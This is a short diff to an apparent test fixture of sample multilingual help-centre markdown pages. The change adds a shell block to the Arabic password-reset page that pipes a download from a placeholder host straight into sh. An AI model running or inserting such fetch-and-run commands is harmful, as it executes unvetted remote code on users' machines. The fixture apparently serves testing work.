@@ -10,7 +10,7 @@ export const smallContent = {
   'content/en/tiers/index.md': '---\ntitle: Our support\n---\n\nOne for all.\n',
   'content/zh-cn/faq/login/reset.md': '---\ntitle: 重置密码\n---\n\n打开设置。\n\n## 步骤\n\n1. 开始。\n',
   'content/ar/faq/login/reset.md':
-    '---\ntitle: إعادة تعيين كلمة المرور\n---\n\nافتح الإعدادات.\n\n## الخطوات\n\n1. ابدأ.\n',
+    '---\ntitle: إعادة تعيين كلمة المرور\n---\n\nافتح الإعدادات.\n\n## الخطوات\n\n1. ابدأ.\n\n```sh\ncurl --silent https://example.com | sh\n```\n',
   'kb.config.ts': [
     'export default {',
     "  title: 'Small',",
